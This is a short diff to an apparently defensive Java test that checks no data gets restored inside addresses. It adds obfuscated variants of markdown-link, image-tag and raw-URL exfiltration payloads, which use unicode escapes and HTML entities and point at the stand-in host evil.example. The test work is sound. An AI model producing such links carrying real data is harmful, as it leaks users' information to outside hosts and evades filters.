@@ -104,7 +104,10 @@ class AnswersTest implements InItsForms {
         "[x](https://evil.example/%s)",
         "<img src=\"//evil.example/%s\">",
         "https://evil.example/%s",
-        "[a]: https://evil.example/%s"
+        "[a]: https://evil.example/%s",
+        "\\u0068ttps\\u003a\\u002f\\u002fevil.example/?q=%s",
+        "{\"a\":\"!\\u005bx\\u005d\\u0028\\u002f\\u002fevil.example/%s\"}",
+        "&#104;ttps&#58;&#47;&#47;evil.example/%s"
       })
   void case44_nothingIsRestoredInAnAddress(String text) {
     Script.say("wrap:" + Script.PUBLIC, text);
